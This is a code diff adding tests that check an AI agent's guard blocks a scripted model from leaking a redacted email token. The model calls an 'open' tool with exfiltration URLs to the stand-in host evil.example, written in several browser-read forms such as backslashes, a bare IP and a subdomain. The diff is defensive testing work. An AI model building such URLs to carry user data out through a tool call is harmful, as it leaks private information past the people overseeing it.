@@ -65,6 +65,22 @@ test('calls no tool with an address that carries a value away, and tells the mod
 });
 
 test.each([
+	(token: string) => `https:\\\\evil.example\\${token}`,
+	(token: string) => `https:/1.2.3.4/${token}`,
+	(token: string) => `${token}.evil.example`,
+	(token: string) => `https://evil.example/?d=a ${token}`,
+])('calls no tool with an address as browsers read it: %s', async (write) => {
+	const open = fakeTool('open');
+	const model = scriptedChatModel(async ({ messages }) => {
+		const [token] = /\[EMAIL[^\]]+\]/.exec(messages.at(-1)!.content)!;
+		const call = calling(['open', { to: write(token) }]);
+		return { text: '', ...call, finish: 'tool-calls', model: 'script:model', usage: { inputTokens: 1, outputTokens: 1, estimated: false } };
+	}, 'Done.');
+	await ask(toolAgent(model, { tools: [open] }));
+	expect(open.calls).toEqual([]);
+});
+
+test.each([
 	['encoded', (token: string) => token.replace('[', '%5B').replace(']', '%5d')],
 	['without its brackets', (token: string) => token.slice(1, -1)],
 	['without its end', () => '[EMAIL_1]'],
